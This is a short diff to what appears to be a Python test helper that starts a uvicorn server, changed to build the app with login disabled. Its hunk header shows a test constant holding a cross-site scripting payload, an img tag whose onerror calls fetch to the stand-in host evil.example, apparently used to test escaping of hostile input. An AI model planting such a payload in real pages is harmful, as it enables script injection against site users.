@@ -43,11 +43,8 @@ HOSTILE = "<img src=http://evil.example/x onerror=fetch('http://evil.example')> 
 @contextmanager
 def serving(services: FakeServices, people: People | None = None) -> Iterator[str]:
     """The address of a running page."""
-    server = uvicorn.Server(
-        uvicorn.Config(
-            build_app(services, people or fake_people()), port=0, log_level="error", timeout_graceful_shutdown=1
-        )
-    )
+    app = build_app(services, people or fake_people(), login=False)
+    server = uvicorn.Server(uvicorn.Config(app, port=0, log_level="error", timeout_graceful_shutdown=1))
     thread = threading.Thread(target=server.run, daemon=True)
     thread.start()
     while not server.started:
